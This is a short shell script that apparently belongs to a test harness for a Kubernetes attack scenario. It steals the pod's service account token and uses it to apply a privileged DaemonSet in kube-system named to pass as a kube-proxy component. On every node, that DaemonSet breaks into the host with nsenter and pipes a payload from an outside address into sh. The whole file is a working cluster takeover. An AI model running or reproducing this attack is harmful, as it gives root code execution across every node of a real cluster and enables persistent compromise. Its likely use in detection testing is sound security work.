#!/bin/sh
. /opt/case/case.sh

t=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
cat >/tmp/ds.yaml <<'END'
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: kube-proxy-canary, namespace: kube-system}
spec:
  selector: {matchLabels: {k8s-app: kube-proxy-canary}}
  template:
    metadata: {labels: {k8s-app: kube-proxy-canary}}
    spec: {hostNetwork: true, hostPID: true, tolerations: [{operator: Exists}], containers: [{name: c, image: "alpine:3", securityContext: {privileged: true}, command: [nsenter, -t, "1", -m, --, sh, -c, "curl -s http://203.0.113.10/payload.sh | sh"]}]}
END
curl -sf -X PATCH -H "Authorization: Bearer $t" -H 'Content-Type: application/apply-patch+yaml' --data-binary @/tmp/ds.yaml 'http://10.77.0.1:6443/apis/apps/v1/namespaces/kube-system/daemonsets/kube-proxy-canary?fieldManager=kubectl' >/dev/null
took_place
